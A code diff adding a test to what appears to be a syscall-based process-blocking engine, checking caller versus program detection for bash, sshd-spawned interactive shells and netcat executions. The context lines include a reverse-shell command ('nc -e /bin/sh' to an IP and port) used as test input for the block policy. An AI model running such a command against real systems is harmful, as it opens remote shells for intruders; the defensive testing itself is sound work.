@@ -139,6 +139,20 @@ def test_process_by_path_with_args() -> None:
     assert engine.evaluate(exec_ev("/opt/bash", "-c", "x")).events == ()  # another bash
 
 
+def test_the_calling_shell_is_not_the_program() -> None:
+    """At an execve stop `exe` is still the caller: bash running `grep -i` is not `bash -i`."""
+    engine = Engine(policy(PROC))
+    grep = exec_ev("grep", "-i", "x", path="/usr/bin/grep", exe="/usr/bin/bash")
+    assert engine.evaluate(grep).events == ()
+    shell = engine.evaluate(exec_ev("bash", "-i", path="/bin/bash", exe="/usr/sbin/sshd"))
+    assert shell.events[0].extra["caller"] == "/usr/sbin/sshd"
+    # an exec reported after the fact (PTRACE_EVENT_EXEC) with no argv: exe is the program
+    late = SyscallEvent(
+        timestamp=1.0, pid=5, tid=5, ppid=1, exe="/usr/bin/nc", syscall="execve", kind=KIND_EXEC
+    )
+    assert engine.evaluate(late).block
+
+
 def test_process_by_name_block_and_patterns() -> None:
     engine = Engine(policy(PROC))
     nc = engine.evaluate(exec_ev("/usr/bin/nc", "-e", "/bin/sh", "1.2.3.4", "4444"))
